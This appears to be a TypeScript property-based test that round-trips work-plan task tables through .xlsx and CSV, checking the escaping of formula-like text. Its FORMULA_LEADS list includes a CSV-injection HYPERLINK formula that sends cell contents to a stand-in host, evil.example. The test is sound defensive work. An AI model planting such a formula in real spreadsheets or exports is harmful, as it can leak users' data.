// Property: a plan written as a task table (.xlsx or CSV) and read back is the
// same plan, for plans generated over everything the table keeps: every target
// kind, owners with bracketed names, leaders, dates, paces and trajectories,
// observations with and without units and notes, flags, cancellations, x- keys
// with any JSON value, and text with commas, quotes, line breaks, escapes,
// characters XML cannot hold, and starts that a spreadsheet would run as a
// formula (= + - @ tab CR, with or without apostrophes before them: the CSV
// writer marks these with a '). Generated plans avoid the forms the table
// documents as normalised (empty lists, cancelled: null, empty optional texts);
// observations are generated in date order. A plan-level trajectory is not generated
// (it would constrain every task's window); task-level trajectories are.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatPlanCsv, parsePlanCsv, readPlanWorkbook, writePlanWorkbook } from '../../src/excel/index.js';
import { parsePlan, type Plan } from '../../src/index.js';

const CHARS = [...'甲乙丙丁市县区局委办工作任务建设推进(、)()|\\,,"\'\n\t :;。%_xA0123456789abc-'];
const plainText = (min: number) => fc.string({ unit: fc.constantFrom(...CHARS, '\r', '\u0007', '_x0041_', '😀'), minLength: min, maxLength: 12 });
// Starts a spreadsheet would read as a formula, and apostrophes before them: the CSV writer
// marks such text with a leading ' and the reader removes exactly that mark (OWASP CSV injection).
const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '-5', '+3', "'", "''", "'=", "''-", "'@", "'\t"];
const text = (min = 0) =>
  fc.oneof(
    { weight: 2, arbitrary: plainText(min) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...FORMULA_LEADS), plainText(0)).map(([lead, rest]) => lead + rest) },
  );
/** Text that a spreadsheet would run as a formula, or that starts with ' before such a start. */
const FORMULA_LIKE = /^'*[=+\-@\t\r]/;
const nonEmpty = text(1).filter((s) => s.trim() !== '');
const id = fc.string({ unit: fc.constantFrom(...'ABCTW0123456789-甲乙'), minLength: 1, maxLength: 4 });
const unitName = fc.constantFrom('市发改委', '市住建局', '各县(市、区)', '示范区', '市人社局', '市财政局(国资委)');
const names = fc.uniqueArray(unitName, { minLength: 1, maxLength: 3 });
const decimal = (positive = false) =>
  fc.tuple(fc.integer({ min: positive ? 1 : -99999, max: 99999 }), fc.integer({ min: 0, max: 4 })).map(([n, scale]) => {
    const sign = n < 0 ? '-' : '';
    const digits = String(Math.abs(n)).padStart(scale + 1, '0');
    return `${sign}${scale === 0 ? digits : `${digits.slice(0, -scale)}.${digits.slice(-scale)}`}`;
  });
const dayOf2018 = fc.integer({ min: 0, max: 364 }).map((n) => new Date(Date.UTC(2018, 0, 1 + n)).toISOString().slice(0, 10));
const jsonValue = fc.jsonValue({ maxDepth: 2 }).map((value) => JSON.parse(JSON.stringify(value)) as unknown);
const extensions = fc.dictionary(fc.constantFrom('x-note', 'x-source', 'x-a'), fc.oneof(text(), jsonValue), { maxKeys: 2 });

const quantity = fc.record({ measure: nonEmpty, unit: fc.constantFrom('万人', '亿元', '个', '%', '套') });
const target = fc.oneof(
  fc.record({ kind: fc.constant('cumulative'), value: decimal(true) }).chain((t) => quantity.map((q) => ({ ...t, ...q }))),
  fc
    .record({ kind: fc.constant('level'), value: decimal(), baseline: decimal() })
    .filter((t) => Number(t.value) !== Number(t.baseline))
    .chain((t) => quantity.map((q) => ({ ...t, ...q }))),
  fc
    .oneof(
      fc.record({ kind: fc.constant('rate'), value: decimal(), bound: fc.constantFrom('atLeast', 'atMost') }),
      fc.record({ kind: fc.constant('rate'), value: decimal(), bound: fc.constant('about'), tolerance: decimal(true) }),
    )
    .chain((t) => quantity.map((q) => ({ ...t, ...q }))),
  fc.record({
    kind: fc.constant('milestones'),
    milestones: fc.array(fc.record({ title: nonEmpty, due: dayOf2018, done: fc.option(dayOf2018, { nil: null }), weight: decimal(true) }), {
      minLength: 1,
      maxLength: 3,
    }),
  }),
  fc.record({ kind: fc.constant('binary'), completedOn: fc.option(dayOf2018, { nil: null }) }),
);

const observations = (unit: string) =>
  fc
    .uniqueArray(
      fc.record(
        {
          asOf: dayOf2018,
          value: decimal(),
          unit: fc.option(fc.constant(unit === '万人' ? '人' : unit), { nil: undefined }),
          note: fc.option(nonEmpty, { nil: undefined }),
        },
        { requiredKeys: ['asOf', 'value'] },
      ),
      { selector: (observation) => observation.asOf, minLength: 1, maxLength: 3 },
    )
    .map((list) => [...list].sort((a, b) => (a.asOf < b.asOf ? -1 : 1)).map((o) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined))));

const task = (categories: readonly string[]) =>
  fc
    .record(
      {
        title: text(),
        category: categories.length === 0 ? fc.constant(undefined) : fc.constantFrom(...categories),
        owners: fc.record({ lead: names, support: names }, { requiredKeys: [] }).filter((owners) => Object.keys(owners).length > 0),
        leader: nonEmpty,
        window: fc.tuple(dayOf2018, dayOf2018).map(([a, b]): [string, string] => (a <= b ? [a, b] : [b, a])),
        pace: fc.constantFrom('monthly', 'daily'),
        target,
        flags: fc.uniqueArray(fc.constantFrom('problem', '重点', '督办'), { minLength: 1, maxLength: 2 }),
        cancelled: fc.record({ on: dayOf2018, reason: text() }),
        extensions,
      },
      { requiredKeys: ['title', 'target', 'extensions'] },
    )
    .chain((t) => {
      const kind = (t.target as { kind: string }).kind;
      const unit = (t.target as { unit?: string }).unit ?? '';
      const observed = kind === 'milestones' || kind === 'binary' ? fc.constant(undefined) : fc.option(observations(unit), { nil: undefined });
      // A trajectory's points lie in [start, deadline): drawn from the task's own window.
      const [start, deadline] = t.window ?? ['2018-01-01', '2018-12-31'];
      const inWindow = dayOf2018.filter((day) => day >= start && day < deadline);
      const trajectory =
        start < deadline
          ? fc.option(
              fc
                .tuple(fc.uniqueArray(inWindow, { minLength: 1, maxLength: 3 }), fc.array(fc.integer({ min: 0, max: 100 }), { minLength: 3, maxLength: 3 }))
                .map(([dates, values]) => {
                  const sortedValues = [...values].sort((a, b) => a - b);
                  return { trajectory: [...dates].sort().map((date, i) => ({ date, expected: String(sortedValues[i]! / 100) })) };
                }),
              { nil: undefined },
            )
          : fc.constant(undefined);
      return fc.tuple(observed, trajectory).map(([list, pace]) => ({ ...t, observations: list, ...(pace === undefined ? {} : { pace }) }));
    })
    .map(({ window, extensions: x, ...rest }) => {
      const out: Record<string, unknown> = { ...x, ...rest };
      if (window !== undefined) {
        out.start = window[0];
        out.deadline = window[1];
      }
      for (const key of Object.keys(out)) if (out[key] === undefined) delete out[key];
      return out;
    });

const planArbitrary: fc.Arbitrary<Plan> = fc
  .uniqueArray(id, { maxLength: 3 })
  .chain((categoryIds) =>
    fc.record({
      categories: fc.option(fc.tuple(...categoryIds.map((categoryId) => fc.tuple(text(), extensions).map(([title, x]) => ({ ...x, id: categoryId, title })))), {
        nil: undefined,
      }),
      tasks: fc.uniqueArray(id, { maxLength: 5 }).chain((ids) => fc.tuple(...ids.map((taskId) => task(categoryIds).map((t) => ({ ...t, id: taskId }))))),
      issuer: fc.option(nonEmpty, { nil: undefined }),
      asOf: fc.option(dayOf2018, { nil: undefined }),
      pace: fc.option(fc.constantFrom('monthly', 'daily'), { nil: undefined }),
      extensions,
      title: nonEmpty,
      $schema: fc.option(fc.constant('../schemas/plan.schema.json'), { nil: undefined }),
    }),
  )
  .map(({ categories, tasks, extensions: x, ...rest }) => {
    const json: Record<string, unknown> = { ...x, formatVersion: 1, id: 'generated-2018', period: { start: '2018-01-01', end: '2018-12-31' }, tasks, ...rest };
    if (categories !== undefined) json.categories = categories;
    else for (const t of tasks) delete (t as Record<string, unknown>).category;
    for (const key of Object.keys(json)) if (json[key] === undefined) delete json[key];
    return json;
  })
  .map((json) => parsePlan(json));

describe('task table round trip (property)', () => {
  it('an .xlsx workbook gives back the same plan', async () => {
    await fc.assert(
      fc.asyncProperty(planArbitrary, async (plan) => {
        expect(await readPlanWorkbook(await writePlanWorkbook(plan))).toEqual(plan);
      }),
      { numRuns: 60 },
    );
  }, 120_000);

  it('a CSV task table gives back the same plan', () => {
    const titles = { all: 0, formulaLike: 0, quoted: 0 };
    fc.assert(
      fc.property(planArbitrary, (plan) => {
        for (const { title } of plan.tasks) {
          titles.all++;
          if (FORMULA_LIKE.test(title)) titles.formulaLike++;
          if (/^'+[=+\-@\t\r]/.test(title)) titles.quoted++;
        }
        expect(parsePlanCsv(formatPlanCsv(plan), { base: plan })).toEqual(plan);
      }),
      { numRuns: 300 },
    );
    // The generator really produces titles that start like formulas, and ones that start with ' before that.
    expect(titles.formulaLike).toBeGreaterThanOrEqual(Math.max(50, titles.all * 0.15));
    expect(titles.quoted).toBeGreaterThanOrEqual(Math.max(10, titles.all * 0.03));
  });
});
